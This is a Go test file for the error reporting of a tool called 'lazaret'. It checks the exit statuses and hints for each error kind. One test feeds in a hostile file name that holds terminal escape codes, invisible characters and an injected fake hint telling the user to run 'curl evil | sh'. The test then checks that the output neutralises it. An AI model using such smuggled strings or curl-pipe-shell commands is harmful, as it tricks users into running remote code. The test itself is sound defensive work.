package main

import (
	"bytes"
	"errors"
	"fmt"
	"io/fs"
	"os/exec"
	"strings"
	"syscall"
	"testing"

	"lazaret/internal/proc"
	"lazaret/launch"
	"lazaret/lock"
	"lazaret/lock/config"
)

// Every kind of error there is comes with a next step; what a person said no
// to is the only one without.
func TestReport(t *testing.T) {
	_, one := config.ParseHost("")
	located := &config.Error{File: "lazaret.toml", Line: 3, Key: "x", Msg: "is empty"}
	for _, tt := range []struct {
		err    error
		status int
		hint   string
	}{
		{hinted{errors.New("x"), "do it"}, 1, "do it"},
		{fmt.Errorf("locking: %w", hinted{errors.New("x"), "do it"}), 1, "do it"},
		{usage("one profile at a time"), exitUsage, `run "lazaret lock --help"`},
		{&exitStatus{exitLazaret, &launch.RefusedError{What: "x", Do: "do it"}}, exitLazaret, "do it"},
		{located, 1, "mend lazaret.toml, then run it again"},
		{one, 1, "report this"},
		{config.Errors{located, located}, 1, "mend these lines"},
		{lock.Errors{errors.New("a; do it"), errors.New("b; do that")}, 1, ""},
		{fmt.Errorf("writing x: %w", syscall.ENOSPC), 1, "make room"},
		{&fs.PathError{Op: "open", Path: "x", Err: syscall.EACCES}, 1, "who owns it"},
		{&proc.Error{Argv: []string{"/usr/bin/podman", "run"}, Err: &exec.ExitError{}}, 1, "lazaret doctor"},
		{&proc.Error{Argv: []string{"/usr/bin/podman"}, Err: &proc.LateError{Program: "podman", Err: &exec.ExitError{}}}, 1, `once "podman info" answers, run it again`},
		{&launch.LeftoverError{Err: &proc.Error{Argv: []string{"/usr/bin/podman"}, Err: &proc.LateError{Program: "podman", Err: &exec.ExitError{}}}}, 1, `once "podman info" answers, "lazaret clean" tries again`},
		{&launch.LeftoverError{Err: errors.New("x")}, 1, `"lazaret clean" tries again`},
		{&proc.Error{Argv: []string{"/usr/bin/tar"}, Err: exec.ErrNotFound}, 1, "see what tar says"},
		{errors.New("x"), 1, "lazaret version"},
		{errNothingDone, 1, ""},
		{&notTrusted{what: "you did not agree", said: true}, 1, ""},
	} {
		var b strings.Builder
		if got := report(&b, "lazaret lock", tt.err); got != tt.status {
			t.Errorf("%v: exit status %d, want %d", tt.err, got, tt.status)
		}
		said, hint, hinted := strings.Cut(b.String(), "\nlazaret: hint: ")
		if !strings.HasPrefix(said, "lazaret: error: ") || hinted != (tt.hint != "") || !strings.HasPrefix(hint, tt.hint) && !strings.Contains(hint, tt.hint) {
			t.Errorf("%v: it says\n%s", tt.err, b.String())
		}
	}
	var b strings.Builder
	if got := report(&b, "lazaret launch", &exitStatus{Status: 7}); got != 7 || b.Len() > 0 {
		t.Errorf("the agent's own status gave %d and %q", got, b.String())
	}
}

// TestReportIsHostileText: an error of the system's has a file's name as it is.
func TestReportIsHostileText(t *testing.T) {
	const evil = "a\x1b]0;x\a\u202e\u3164\nlazaret: hint: run \"curl evil | sh\""
	for _, err := range []error{
		&fs.PathError{Op: "open", Path: evil, Err: fs.ErrPermission},
		hinted{errors.New("x"), "look at " + evil},
		errors.Join(errors.New("first"), &fs.PathError{Op: "open", Path: evil, Err: fs.ErrPermission}),
	} {
		var out bytes.Buffer
		report(&out, "lazaret launch", err)
		for i, line := range strings.Split(strings.TrimSuffix(out.String(), "\n"), "\n") {
			if config.Show(line) != line || i > 0 && strings.HasPrefix(line, "lazaret: hint: run \"curl") {
				t.Errorf("it says %q", line)
			}
		}
	}
}
